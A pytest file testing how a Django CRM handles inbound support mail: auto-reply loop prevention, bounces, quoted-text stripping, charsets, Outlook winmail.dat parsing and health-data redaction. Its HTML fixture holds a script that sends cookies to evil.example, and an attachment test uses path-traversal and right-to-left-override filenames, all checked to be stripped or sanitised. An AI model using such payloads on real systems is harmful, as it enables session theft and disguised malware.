"""Mail as it really arrives at a small company's support address, written out as the .eml
files the mail programs send: out-of-office replies that say nothing of what they are
(Exchange), vacation responders, lists, delivery reports and no-reply senders must never open
a ticket nor be answered (two responders would loop), and what tidings answers automatically
says it is an auto-reply (RFC 3834)."""

from __future__ import annotations

import re
from email import message_from_bytes, policy
from pathlib import Path

import pytest

from tests.campaigns.delivery_helpers import SmtpSink, transports_for
from tidings.campaigns.engine import deliver_pending
from tidings.campaigns.models import InboundReport, OutgoingMessage
from tidings.crm.inbound.processing import do_receive_inbound
from tidings.crm.models import ConversationMessage, Enquiry, InboundMail

from .helpers import SUPPORT, mail

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("support_address")]

GRACE = "Grace Hopper <grace@example.org>"


def eml(head: str, body: bytes | str) -> bytes:
    """An .eml as a mail program writes it: the headers as given, CRLF line ends, the body."""
    data = body.encode() if isinstance(body, str) else body
    lines = head.strip().replace("\r\n", "\n").replace("\n", "\r\n").encode()
    return lines + b"\r\n\r\n" + data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


# Exchange Online / Exchange 2016's out-of-office reply, headers as it writes them: no
# Auto-Submitted, no In-Reply-To, no References; only X-Auto-Response-Suppress says anything.
EXCHANGE_OUT_OF_OFFICE = eml(
    """
Received: from EXCH01.corp.example (10.0.0.5) by EXCH02.corp.example with Microsoft SMTP
 Server id 15.1.2507.23; Mon, 7 Dec 2026 10:00:03 +0000
From: Peter Jones <peter.jones@corp.example>
To: Example Support <support@example.co.uk>
Subject: Automatic reply: We have your message (E-1)
Thread-Topic: We have your message (E-1)
Thread-Index: AQHX5cRZ0p0sO2Vwz0mA7JcZ9T3Zxw==
Date: Mon, 7 Dec 2026 10:00:02 +0000
Message-ID: <b2f0c1a9e3d24f6b8c4f1a2b3c4d5e6f@EXCH01.corp.example>
Accept-Language: en-GB
Content-Language: en-GB
X-MS-Has-Attach:
X-MS-Exchange-Organization-SCL: -1
X-MS-TNEF-Correlator:
X-Auto-Response-Suppress: All
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0
""",
    "I am out of the office until 14 December with limited access to email. For urgent matte=\n"
    "rs please contact my colleague Mary on 020 7946 0000.\n",
)

# Gmail's vacation responder.
GMAIL_VACATION = eml(
    """
From: Alan Turing <alan.turing@gmail.example>
To: support@example.co.uk
Subject: Away until January
Date: Mon, 7 Dec 2026 10:05:00 +0000
Message-ID: <CAF=vacation.123@mail.gmail.example>
In-Reply-To: <somewhere-else@mail.example>
References: <somewhere-else@mail.example>
Auto-Submitted: auto-replied
Precedence: bulk
X-Autoreply: yes
MIME-Version: 1.0
Content-Type: text/plain; charset="UTF-8"
""",
    "Thanks for your mail. I am travelling and will answer in January.\n",
)

# A mailing list's digest that reached the support address (GNU Mailman).
MAILMAN_DIGEST = eml(
    """
From: users-request@lists.example.org
To: users@lists.example.org
Subject: Users Digest, Vol 12, Issue 3
Date: Mon, 7 Dec 2026 11:00:00 +0000
Message-ID: <mailman.12.3@lists.example.org>
Precedence: list
List-Id: Users of Example <users.lists.example.org>
List-Unsubscribe: <https://lists.example.org/mailman/options/users>
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"
""",
    "Today's Topics:\n\n   1. Re: How do I export? (Someone)\n",
)

# A plain-text delivery report (qmail: no multipart/report), from MAILER-DAEMON.
QMAIL_BOUNCE = eml(
    """
From: MAILER-DAEMON@mx.corp.example
To: support@example.co.uk
Subject: failure notice
Date: Mon, 7 Dec 2026 12:00:00 +0000
Message-ID: <bounce.1@mx.corp.example>
MIME-Version: 1.0
Content-Type: text/plain
""",
    "Hi. This is the qmail-send program at mx.corp.example.\n"
    "I'm afraid I wasn't able to deliver your message to the following addresses.\n"
    "This is a permanent error; I've given up. Sorry it didn't work out.\n\n"
    "<grace@corp.example>:\nSorry, no mailbox here by that name. (#5.1.1)\n",
)


def nothing_opened_nor_sent(row: InboundMail) -> None:
    assert row.status == "ignored", row.reason
    assert not Enquiry.objects.exists()
    assert not OutgoingMessage.objects.exists()


def test_an_exchange_out_of_office_without_in_reply_to_opens_nothing_and_gets_no_answer():
    """Exchange's out-of-office reply to one of our acknowledgements that lost its way (its
    In-Reply-To is not sent): it opened an enquiry of its own and was acknowledged, which
    Peter's Exchange then answered again."""
    row = do_receive_inbound(EXCHANGE_OUT_OF_OFFICE, "pipe")
    nothing_opened_nor_sent(row)
    assert "X-Auto-Response-Suppress: All" in row.reason


@pytest.mark.parametrize(
    "subject",
    [
        "Automatic reply: Courses",
        "Autoreply: Courses",
        "Out of Office: Courses",
        "Out of office reply: Courses",
        "Réponse automatique : Cours",
        "Abwesenheitsnotiz: Kurse",
        "Automatische Antwort: Kurse",
        "Respuesta automática: Cursos",
        "Risposta automatica: Corsi",
        "Automatisch antwoord: Cursussen",
        "Automatyczna odpowiedź: Kursy",
        "Autosvar: Kurser",
    ],
)
def test_an_out_of_office_reply_known_only_by_its_subject_opens_nothing_but_is_kept(subject):
    """Out-of-office replies that carry no header at all (older Exchange, a gateway that drops
    X-… headers, small hosted mail) are known by the subject their program gives them.  A
    person may write such a subject too: the mail stays for an operator to check, text kept."""
    raw = mail("Peter Jones <peter.jones@corp.example>", subject=subject, body="Away.")
    row = do_receive_inbound(raw, "pipe")
    assert row.status == "unprocessed" and "only by its subject" in row.reason
    assert "no ticket opened, nothing sent" in row.reason
    assert bytes(InboundMail.objects.get(pk=row.pk).raw) == raw
    assert not Enquiry.objects.exists() and not OutgoingMessage.objects.exists()


def test_a_persons_mail_with_an_out_of_office_subject_is_kept_and_an_operator_opens_it(client):
    """Grace writes "Out of office: can I still book the March course?": the mail was ignored
    and its message cleared, and nobody ever read it.  Now it waits in the support mail to
    check; the operator opens it as Grace's enquiry, with no acknowledgement sent (were it an
    auto-reply after all, that would start a loop)."""
    from django.urls import reverse

    from .helpers import operator

    body = "I am away next week; can I still book the March course when I am back?"
    raw = mail(GRACE, subject="Out of office: March course", body=body)
    row = do_receive_inbound(raw, "pipe")
    assert row.status == "unprocessed" and not Enquiry.objects.exists()
    client.force_login(operator("ada"))
    page = client.get(reverse("crm:inbound")).text
    assert "From Grace Hopper &lt;grace@example.org&gt;: “Out of office: March course”" in page
    assert reverse("crm:inbound-open", args=[row.pk]) in page
    client.post(reverse("crm:inbound-open", args=[row.pk]))
    row.refresh_from_db()
    assert row.status == "processed" and "nothing sent: an operator opened it" in row.reason
    assert Enquiry.objects.get().message == body
    assert not OutgoingMessage.objects.exists()


def test_an_out_of_office_subject_with_an_automatic_header_is_still_dropped():
    """Only the subject-only rule keeps mail: a header saying the mail is automatic wins."""
    raw = mail(
        "Peter Jones <peter.jones@corp.example>",
        subject="Out of office: Courses",
        body="Away.",
        headers={"Precedence": "bulk"},
    )
    row = do_receive_inbound(raw, "pipe")
    nothing_opened_nor_sent(row)
    assert "Precedence: bulk" in row.reason and not bytes(row.raw)


def test_a_persons_subject_that_merely_mentions_an_automatic_reply_is_theirs():
    raw = mail(GRACE, subject="Your automatic reply: it says you are closed?", body="Are you?")
    assert do_receive_inbound(raw, "pipe").status == "processed"
    raw = mail(GRACE, subject="Re: Out of office hours support", body="Do you offer it?")
    assert do_receive_inbound(raw, "pipe").status == "processed"
    assert Enquiry.objects.count() == 2


@pytest.mark.parametrize(
    "raw", [GMAIL_VACATION, MAILMAN_DIGEST], ids=["gmail-vacation", "mailman-digest"]
)
def test_vacation_responders_and_list_mail_open_nothing(raw):
    nothing_opened_nor_sent(do_receive_inbound(raw, "pipe"))


def test_a_plain_text_bounce_from_mailer_daemon_goes_to_the_bounce_processing():
    row = do_receive_inbound(QMAIL_BOUNCE, "pipe")
    assert row.status == "ignored" and "passed to bounce processing" in row.reason
    assert InboundReport.objects.filter(source="support:pipe").exists()
    assert not Enquiry.objects.exists() and not OutgoingMessage.objects.exists()


@pytest.mark.parametrize(
    ("sender", "headers"),
    [
        ("Grace Hopper <grace@example.org>", {"X-Auto-Response-Suppress": "OOF, AutoReply"}),
        ("Shop <noreply@shop.example>", {}),
        ("Shop <no-reply@shop.example>", {}),
        ("Shop <donotreply@shop.example>", {}),
        ("users-request@lists.example.org", {}),
        ("owner-users@lists.example.org", {}),
    ],
)
def test_mail_whose_sender_wants_no_automatic_answer_is_opened_but_not_acknowledged(
    sender, headers
):
    """A person's mail sent with X-Auto-Response-Suppress (a mail-merge, a system) and mail
    from an address nobody reads (RFC 3834 3.2): an operator may still answer it, but an
    acknowledgement would go unread (or bounce, or answer a list)."""
    raw = mail(sender, subject="Order 123", body="Where is it?", headers=headers)
    row = do_receive_inbound(raw, "pipe")
    enquiry = Enquiry.objects.get()
    assert row.status == "processed"
    assert row.reason.startswith(f"new enquiry #{enquiry.pk}; nothing sent: ")
    assert not OutgoingMessage.objects.exists()


def test_files_from_a_no_reply_sender_are_not_answered_either():
    raw = mail("noreply@shop.example", attachments=[("a.pdf", "application/pdf", b"%PDF")])
    do_receive_inbound(raw, "pipe")
    assert Enquiry.objects.count() == 1 and not OutgoingMessage.objects.exists()


@pytest.fixture
def sink(settings):
    from tests.audience.public_helpers import reset

    reset()
    with SmtpSink() as server:
        settings.TIDINGS_TRANSPORTS = transports_for(server, concurrency=1)
        yield server
    reset()


def test_our_acknowledgement_of_a_mail_says_it_is_an_auto_reply_on_the_wire(sink):
    """RFC 3834 5.2: a response to a mail is "auto-replied", which every responder knows not
    to answer; it also asks Exchange for no out-of-office reply."""
    do_receive_inbound(mail(GRACE, subject="Courses", body="Any courses?"), "pipe")
    deliver_pending(max_seconds=10)
    (ack,) = (r.message for r in sink.received)
    assert ack.get_all("Auto-Submitted") == ["auto-replied"]
    assert ack.get_all("X-Auto-Response-Suppress") == ["OOF, AutoReply"]
    assert ack["In-Reply-To"] == Enquiry.objects.get().message_id


def test_an_out_of_office_reply_to_our_acknowledgement_is_noted_quietly():
    do_receive_inbound(mail(GRACE, subject="Courses", body="Any courses?"), "pipe")
    enquiry = Enquiry.objects.get()
    ack = ConversationMessage.objects.get(automatic=True)
    reply = EXCHANGE_OUT_OF_OFFICE.replace(
        b"peter.jones@corp.example", b"grace@example.org"
    ).replace(b"MIME-Version", b"In-Reply-To: " + ack.message_id.encode() + b"\r\nMIME-Version")
    row = do_receive_inbound(reply, "pipe")
    assert row.status == "ignored" and f"noted in enquiry #{enquiry.pk}" in row.reason
    assert OutgoingMessage.objects.count() == 1  # the acknowledgement, and nothing since
    enquiry.refresh_from_db()
    assert enquiry.status == "new"


# --- what the person wrote is what the operator reads -----------------------------------------
@pytest.mark.parametrize(
    "body",
    [
        "Hello,\n\nWe need:\n- 10 seats\n- in March\n\nCan you do it by Friday?",
        "Hi,\n\n-the report fails\n-the export too\n\nWhat changed?",
        "Hi,\nThanks, that fixed the login.\nBut now the export fails with error 500.",
        "Hello,\nBest, if you could call me tomorrow after 10.\nI am in all day.",
        "The log says:\n/var/log/tidings/error.log is empty\nand the service restarts.",
        "Warning: the server says the disk is full, please check the mail queue.\nIt is urgent.",
    ],
    ids=["hyphen-list", "tight-list", "thanks-sentence", "best-sentence", "path", "warning"],
)
def test_a_mail_is_kept_whole_when_a_line_only_looks_like_a_sign_off(body):
    """mail-parser-reply takes a line starting "- ", "Thanks,", "Best,", "/…" for the start of a
    signature and "Warning: … mail" for a disclaimer, and everything from there to the end was
    dropped: "We need:" was all that was kept of an order, "Hi," of a bug report."""
    do_receive_inbound(mail(GRACE, subject="Help", body=body), "pipe")
    assert Enquiry.objects.get().message == body


def test_a_real_signature_and_disclaimer_are_still_dropped():
    body = (
        "The export fails since Monday.\n\nKind regards,\nGrace Hopper\nHead of IT, Navy Ltd\n"
        "Tel: +44 20 7946 0000\n\nCONFIDENTIALITY: This e-mail and any attachments are "
        "confidential and intended solely for the addressee."
    )
    do_receive_inbound(mail(GRACE, subject="Help", body=body), "pipe")
    assert Enquiry.objects.get().message == "The export fails since Monday."


GMAIL_FORWARD = (
    "---------- Forwarded message ---------\n"
    "From: Alan Turing <alan@else.example>\n"
    "Date: Mon, 7 Dec 2026 at 09:00\n"
    "Subject: Prices\n"
    "To: Grace Hopper <grace@example.org>\n\n"
    "How much are your COBOL courses for ten people?\n"
)


@pytest.mark.parametrize("note", ["", "FYI, a customer asked us this - can you help?\n\n"])
def test_an_inline_forward_keeps_the_forwarded_text(note):
    """A colleague forwards a customer's question to support: what was kept was the forward's
    marker line alone ("---------- Forwarded message ---------"), or the note without the
    question it was about."""
    do_receive_inbound(mail(GRACE, subject="Fwd: Prices", body=note + GMAIL_FORWARD), "pipe")
    message = Enquiry.objects.get().message
    assert message == (note + GMAIL_FORWARD).strip()
    assert "How much are your COBOL courses for ten people?" in message


def test_a_reply_that_quotes_a_forward_is_still_only_the_reply():
    body = "Yes please.\n\nOn Mon, 2 Mar 2026 at 10:00, Bob <bob@else.example> wrote:\n" + "".join(
        f"> {line}\n" for line in GMAIL_FORWARD.splitlines()
    )
    do_receive_inbound(mail(GRACE, subject="Re: Prices", body=body), "pipe")
    assert Enquiry.objects.get().message == "Yes please."


OUTLOOK_HTML = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style><!-- p.MsoNormal {margin:0cm;} --></style>
<!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]-->
<script>document.location='https://evil.example/'+document.cookie</script></head>
<body lang="EN-GB"><div class="WordSection1">
<p class="MsoNormal">Hello,<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">We need these seats:<o:p></o:p></p>
<table class="MsoTableGrid"><tr><td><p>Name</p></td><td><p>Seats</p></td></tr>
<tr><td><p>Grace</p></td><td><p>10</p></td></tr></table>
<p class="MsoNormal">Kind regards<br>Grace<o:p></o:p></p>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class="MsoNormal"><b>From:</b> Example Support &lt;support@example.co.uk&gt;<br>
<b>Sent:</b> 01 December 2026 10:00<br><b>To:</b> Grace Hopper &lt;grace@example.org&gt;<br>
<b>Subject:</b> Courses<o:p></o:p></p></div>
<p class="MsoNormal">What we wrote to her before<o:p></o:p></p></div></body></html>"""


def test_outlooks_html_only_mail_reads_as_its_text():
    """Outlook lays mail out in tables: their cells ran together ("NameSeatsGrace10")."""
    raw = eml(
        f"""
From: {GRACE}
To: {SUPPORT}
Subject: Seats
Message-ID: <outlook.1@example.org>
MIME-Version: 1.0
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable
""",
        # Outlook's quoted-printable: "=3D" and soft line breaks inside words and tags.
        OUTLOOK_HTML.replace("=", "=3D").replace("We need these", "We ne=\ned these"),
    )
    do_receive_inbound(raw, "pipe")
    text = Enquiry.objects.get().message
    assert "Name  Seats\nGrace  10" in text
    assert text.startswith("Hello,\n\nWe need these seats:")
    assert "What we wrote to her before" not in text and "From:" not in text
    assert "evil" not in text and "MsoNormal" not in text and "<" not in text


def test_a_subject_and_name_in_another_charset_than_they_say_keep_their_letters():
    """Windows-1252 bytes in an "=?utf-8?…?=" word, and raw 8-bit bytes in From: the subject
    and the person's name showed "Gr\ufffd\ufffde" and "Ren\ufffd M\ufffdller"."""
    raw = eml(
        f"""
From: Ren\xe9 M\xfcller <rene@example.org>
To: {SUPPORT}
Subject: =?utf-8?Q?Gr=FC=DFe_aus_M=FCnchen?=
Message-ID: <cs.2@example.org>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="b"
""".encode("latin-1").decode("latin-1"),
        b"--b\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
        + "Zehn Plätze – bitte.\n".encode("cp1252")
        + b"--b\nContent-Type: text/html; charset=utf-8\n\n<p>x</p>\n--b--\n",
    )
    raw = raw.replace("Ren\xe9 M\xfcller".encode(), "Ren\xe9 M\xfcller".encode("latin-1"))
    row = do_receive_inbound(raw, "pipe")
    enquiry = Enquiry.objects.select_related("contact").get()
    assert row.status == "processed", row.reason
    assert (enquiry.subject, enquiry.message) == ("Grüße aus München", "Zehn Plätze – bitte.")
    assert enquiry.contact.name == "René Müller"


def test_japanese_mail_in_iso_2022_jp_is_read():
    from email.header import Header

    raw = eml(
        f"""
From: {Header("山田太郎", "iso-2022-jp").encode()} <taro@example.jp>
To: {SUPPORT}
Subject: {Header("見積もりの依頼", "iso-2022-jp").encode()}
Message-ID: <jp.1@example.jp>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit
""",
        "見積もりをお願いします。\n".encode("iso2022_jp"),
    )
    do_receive_inbound(raw, "pipe")
    enquiry = Enquiry.objects.select_related("contact").get()
    assert (enquiry.subject, enquiry.message) == ("見積もりの依頼", "見積もりをお願いします。")
    assert enquiry.contact.name == "山田太郎"


# --- attachments ------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../../etc/passwd", "passwd"),
        ("C:\\Users\\grace\\evil.bat", "evil.bat"),
        ("invoice\u202egpj.exe", "invoicegpj.exe"),
        ("a" * 300 + ".pdf", "a" * 145 + "….pdf"),
        ("..", "attachment"),
        ("my HIV test results.pdf", "[removed: health].pdf"),
    ],
    ids=["traversal", "windows-path", "rtl-override", "long", "dots", "special-category"],
)
def test_an_attachments_name_is_made_safe_and_screened(sent, kept, settings, tmp_path):
    """Operators see and download a file under the name the sender gave it: a folder in it, a
    right-to-left override that shows "invoiceexe.jpg" for an .exe, a name cut before its
    extension, or what the name says about someone's health were all kept as sent."""
    from tidings.crm.models import ConversationAttachment

    from .test_inbound import keep_attachments

    keep_attachments(settings, tmp_path)
    message = mail(GRACE, attachments=[("placeholder.pdf", "application/pdf", b"%PDF-1.4")])
    # The email package refuses to write such names itself: they are put in as a sender would.
    raw = message.replace(b'filename="placeholder.pdf"', _rfc2231(sent))
    assert do_receive_inbound(raw, "pipe").status == "processed"
    assert ConversationAttachment.objects.get().filename == kept


def _rfc2231(name: str) -> bytes:
    from urllib.parse import quote

    return b"filename*=utf-8''" + quote(name, safe="").encode()


def winmail_dat(files: list[tuple[str, str, bytes]], *, rtf: bytes = b"") -> bytes:
    """A winmail.dat as Outlook writes it (MS-OXTNEF): the message's attributes (with ``rtf``:
    its body as compressed RTF, PR_RTF_COMPRESSED, and no other), then for each file its
    rendering, short title, bytes and MAPI properties with the long file name."""
    import struct

    def attribute(level: int, attribute_id: int, value: bytes) -> bytes:
        checksum = struct.pack("<H", sum(value) & 0xFFFF)
        return struct.pack("<BII", level, attribute_id, len(value)) + value + checksum

    out = struct.pack("<IH", 0x223E9F78, 0x0001)
    out += attribute(1, 0x00089006, struct.pack("<I", 0x00010000))  # attTnefVersion
    out += attribute(1, 0x00069007, struct.pack("<II", 1252, 0))  # attOemCodepage
    out += attribute(1, 0x00078008, b"IPM.Microsoft Mail.Note\0")  # attMessageClass
    if rtf:
        from compressed_rtf import compress

        packed = compress(rtf)
        padded_rtf = packed + b"\0" * (-len(packed) % 4)
        properties = struct.pack("<I", 1) + b"\x02\x01\x09\x10"  # PT_BINARY PR_RTF_COMPRESSED
        properties += struct.pack("<II", 1, len(packed)) + padded_rtf
        out += attribute(1, 0x00069003, properties)  # attMsgProps
    else:
        out += attribute(1, 0x00069003, struct.pack("<I", 0))  # attMsgProps (none here)
    for long_name, short_name, data in files:
        out += attribute(2, 0x00069002, b"\x01\x00" + b"\xff" * 4 + b"\0" * 8)
        out += attribute(2, 0x00018010, short_name.encode("cp1252") + b"\0")
        out += attribute(2, 0x0006800F, data)
        name = long_name.encode("utf-16-le") + b"\0\0"
        padded = name + b"\0" * (-len(name) % 4)
        properties = struct.pack("<I", 2)
        properties += b"\x03\x00\x05\x37" + struct.pack("<I", 1)  # PR_ATTACH_METHOD
        properties += b"\x1f\x00\x07\x37" + struct.pack("<II", 1, len(name)) + padded
        out += attribute(2, 0x00069005, properties)
    return out


def outlook_rich_text_mail(winmail: bytes) -> bytes:
    """Outlook's mail in its "Rich Text" format: a text part and a winmail.dat."""
    message = mail(GRACE, subject="Report", body="Please see the report.")
    parsed = message_from_bytes(message, policy=policy.default)
    parsed.add_attachment(
        winmail, maintype="application", subtype="ms-tnef", filename="winmail.dat"
    )
    return bytes(parsed)


def test_an_outlook_winmail_dat_with_no_files_in_it_is_no_file():
    """Outlook sends a winmail.dat with rich-text mail even when nothing is attached: its
    sender was told "we did not keep the 1 file attached" of a file they never sent."""
    do_receive_inbound(outlook_rich_text_mail(winmail_dat([])), "pipe")
    assert Enquiry.objects.get().message == "Please see the report."
    sent = list(OutgoingMessage.objects.values_list("kind", flat=True))
    assert sent == ["system:crm_acknowledgement"]


def test_the_files_in_a_winmail_dat_are_kept_as_the_files_they_are(settings, tmp_path):
    """Where the policy keeps attachments, the operator got one winmail.dat that nothing on
    their computer opens: now the files in it, under their long names."""
    from tidings.crm.models import ConversationAttachment

    from .test_inbound import keep_attachments

    keep_attachments(settings, tmp_path)
    winmail = winmail_dat(
        [
            ("Quarterly report 2026.pdf", "QUARTE~1.PDF", b"%PDF-1.7 report"),
            ("Screenshot.png", "SCREEN~1.PNG", b"\x89PNG\r\n\x1a\n"),
        ]
    )
    do_receive_inbound(outlook_rich_text_mail(winmail), "pipe")
    kept = ConversationAttachment.objects.order_by("pk")
    assert [(a.filename, a.content_type, bytes(a.data)) for a in kept] == [
        ("Quarterly report 2026.pdf", "application/pdf", b"%PDF-1.7 report"),
        ("Screenshot.png", "image/png", b"\x89PNG\r\n\x1a\n"),
    ]


def test_a_winmail_dat_that_cannot_be_read_is_kept_as_it_came(settings, tmp_path):
    from tidings.crm.models import ConversationAttachment

    from .test_inbound import keep_attachments

    keep_attachments(settings, tmp_path)
    # Not TNEF at all (no signature): a truncated stream gives tnefparse the files it can read.
    broken = b"\0\0\0\0" + winmail_dat([("a.pdf", "A.PDF", b"%PDF")])[4:]
    do_receive_inbound(outlook_rich_text_mail(broken), "pipe")
    (kept,) = ConversationAttachment.objects.all()
    assert (kept.filename, bytes(kept.data)) == ("winmail.dat", broken)


RICH_TEXT = (
    rb"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\fswiss Calibri;}}"
    rb"{\colortbl;\red0\green0\blue0;}\viewkind4\uc1\pard\f0\fs22 "
    rb"Hello,\par\par We would like \b ten\b0  seats on the M\'fcnchen course.\par "
    rb"I was diagnosed with HIV last year.\par }"
)


def rich_text_only_mail(winmail: bytes, *, text_part: bool) -> bytes:
    """Outlook's "Rich Text" mail whose text is only in its winmail.dat: an empty text part
    beside it, or the winmail.dat alone (Exchange between its own users, forwarded on)."""
    message = message_from_bytes(mail(GRACE, subject="Seats", body=""), policy=policy.default)
    if text_part:
        message.add_attachment(
            winmail, maintype="application", subtype="ms-tnef", filename="winmail.dat"
        )
    else:
        message.set_content(winmail, maintype="application", subtype="ms-tnef")
    return bytes(message)


@pytest.mark.parametrize("text_part", [True, False], ids=["empty-text-part", "winmail-only"])
def test_the_text_of_a_winmail_dat_in_rich_text_is_read_and_screened(text_part):
    """Its text was lost: the enquiry said "(no text)"."""
    raw = rich_text_only_mail(winmail_dat([], rtf=RICH_TEXT), text_part=text_part)
    assert do_receive_inbound(raw, "pipe").status == "processed"
    enquiry = Enquiry.objects.get()
    assert enquiry.message == (
        "Hello,\n\nWe would like ten seats on the München course.\n[removed: health]"
    )
    assert enquiry.redacted_categories == ["health"]
    assert not OutgoingMessage.objects.filter(kind="system:crm_attachments").exists()


def test_a_winmail_dat_whose_rich_text_cannot_be_read_leaves_no_text():
    broken = winmail_dat([], rtf=RICH_TEXT).replace(b"LZFu", b"XXXX")
    raw = rich_text_only_mail(broken, text_part=True)
    assert do_receive_inbound(raw, "pipe").status == "processed"
    assert Enquiry.objects.get().message == "(no text)"


def test_files_in_a_winmail_dat_are_counted_when_they_are_not_kept():
    winmail = winmail_dat([("a.pdf", "A.PDF", b"%PDF"), ("b.pdf", "B.PDF", b"%PDF")])
    do_receive_inbound(outlook_rich_text_mail(winmail), "pipe")
    told = OutgoingMessage.objects.get(kind="system:crm_attachments")
    assert "we did not keep the 2 files attached" in told.text


# --- screening, and the logs ------------------------------------------------------------------
def test_special_category_text_in_a_mail_is_screened_and_never_logged(caplog):
    caplog.set_level("DEBUG")
    raw = mail(
        GRACE,
        subject="My HIV diagnosis",
        body="I was diagnosed with HIV last year. Can the course go at a slower pace?",
        attachments=[("HIV clinic letter.pdf", "application/pdf", b"%PDF")],
    )
    row = do_receive_inbound(raw, "pipe")
    enquiry = Enquiry.objects.get()
    assert row.status == "processed"
    assert "HIV" not in enquiry.subject + enquiry.message
    assert enquiry.redacted_categories == ["health"]
    assert "HIV" not in caplog.text and "grace@example.org" not in caplog.text


def test_a_mail_that_fails_while_processed_logs_where_but_not_what_it_said(caplog, monkeypatch):
    """A database error's text quotes the values it was given: it went to the log whole, with
    the person's address and (for a message) their words, screened out of the database."""
    from django.db import IntegrityError

    import tidings.crm.inbound.processing as processing

    def failing(*args, **kwargs):
        raise IntegrityError(
            'duplicate key value violates unique constraint "contact_email"\n'
            "DETAIL:  Key (email)=(grace@example.org) already exists: I was diagnosed with HIV"
        )

    monkeypatch.setattr(processing, "do_receive_enquiry", failing)
    row = do_receive_inbound(mail(GRACE, subject="Courses", body="Any courses?"), "pipe")
    assert row.status == "unprocessed" and "IntegrityError" in row.reason
    assert "could not be processed (IntegrityError)" in caplog.text
    assert "in _open" in caplog.text  # where it failed is still there
    assert "grace@example.org" not in caplog.text and "HIV" not in caplog.text


def test_an_out_of_office_from_the_persons_other_address_is_not_left_for_an_operator():
    """Grace's out-of-office answers our acknowledgement from her alias: it was kept as "a
    reply from an address that is not the person's" for an operator to check (and possibly
    open as a new enquiry) among the real mail to check."""
    do_receive_inbound(mail(GRACE, subject="Courses", body="Any courses?"), "pipe")
    ack = ConversationMessage.objects.get(automatic=True)
    reply = EXCHANGE_OUT_OF_OFFICE.replace(
        b"peter.jones@corp.example", b"grace.hopper@example.org"
    ).replace(b"MIME-Version", b"In-Reply-To: " + ack.message_id.encode() + b"\r\nMIME-Version")
    row = do_receive_inbound(reply, "pipe")
    assert row.status == "ignored", row.reason
    assert not InboundMail.objects.filter(status="unprocessed").exists()
    assert Enquiry.objects.count() == 1 and OutgoingMessage.objects.count() == 1


@pytest.mark.parametrize(
    "body",
    [
        "Hi,\nthe import fails.\nData: 10 rows, all with a date.\nThe export fails too.",
        "Steps:\nDo: click Export\nThen it crashes.",
    ],
)
def test_a_line_starting_with_a_polish_header_word_is_not_taken_for_quoted_history(body):
    do_receive_inbound(mail(GRACE, subject="Help", body=body), "pipe")
    assert Enquiry.objects.get().message == body


def test_a_polish_outlook_reply_still_loses_its_quoted_history():
    body = (
        "Dziękuję, marzec pasuje.\n\nOd: Example Support <support@example.co.uk>\n"
        "Wysłano: poniedziałek, 7 grudnia 2026 10:00\nDo: Jan Kowalski\nTemat: Kurs\n\n"
        "Który miesiąc Panu pasuje?"
    )
    do_receive_inbound(mail("Jan Kowalski <jan@example.pl>", subject="Kurs", body=body), "pipe")
    assert Enquiry.objects.get().message == "Dziękuję, marzec pasuje."


def test_a_reply_whose_in_reply_to_is_lost_is_found_by_references_and_says_so():
    """Some mail programs (and mailing through a web form that keeps a thread) send a reply
    with no In-Reply-To, or one naming another mail, but our Message-ID still in References:
    it joins the conversation, and the operator's list says how it was matched."""
    do_receive_inbound(mail(GRACE, subject="Courses", body="Any courses?"), "pipe")
    enquiry = Enquiry.objects.get()
    ack = ConversationMessage.objects.get(automatic=True)
    raw = mail(
        GRACE,
        subject="Re: Courses",
        body="In March, please.",
        headers={
            "In-Reply-To": "<not-ours@mail.example>",
            "References": f"<first@mail.example> {ack.message_id}",
        },
    )
    row = do_receive_inbound(raw, "pipe")
    assert row.reason == f"added to enquiry #{enquiry.pk} (by References)"
    assert Enquiry.objects.count() == 1
    assert ConversationMessage.objects.get(direction="in").text == "In March, please."


@pytest.mark.parametrize(
    "body",
    [
        "From: London\nTo: Paris\nDates: 3 to 10 May 2027\n\nTwo adults and a child: the price?",
        "Hello,\n\nWe need a quote.\nFrom: Leeds\nTo: York\nDate: any weekday in March\n\n"
        "Can you do it?",
    ],
)
def test_a_persons_from_and_to_lines_are_not_taken_for_quoted_headers(body):
    """A travel enquiry that starts "From: London" / "To: Paris" was cut there, as if what
    followed were a quoted mail: a quoted header block has an address or a date and time."""
    do_receive_inbound(mail(GRACE, subject="Trip", body=body), "pipe")
    assert Enquiry.objects.get().message == body


@pytest.mark.parametrize(
    "quoted",
    [
        "From: Peter Jones\nSent: Monday, 7 December 2026 10:00\nTo: Support\nSubject: Trip",
        "From: Example Support <support@example.co.uk>\nTo: Grace\nSubject: Trip",
        "De : Example Support\nEnvoyé : lundi 7 décembre 2026 10:00\nÀ : Grace\nObjet : Trip",
    ],
    ids=["outlook-no-address", "address", "outlook-french"],
)
def test_a_real_quoted_header_block_is_still_stripped(quoted):
    body = f"March is fine.\n\n{quoted}\n\nWhich month suits you?"
    do_receive_inbound(mail(GRACE, subject="Trip", body=body), "pipe")
    assert Enquiry.objects.get().message == "March is fine."


@pytest.mark.parametrize(
    "body",
    [
        "Hello,\n\nWe need a car.\nFrom: Leeds\nDate: 3 May 2027, 10:30\nTo: York\n\nCan you?",
        "From: London\nDate: 3 May 2027, 10:30\n\nTwo adults: the price?",
        "Hello,\nDate: 3 May 2027, 10:30\nSubject: two rooms, one cot\n\nThanks!",
        "Die Sendung:\nVon: Hamburg\nDatum: 3. Mai 2027, 10:30\nAn: Köln\n\nGeht das?",
    ],
    ids=["date-between", "date-first", "subject-no-from", "german"],
)
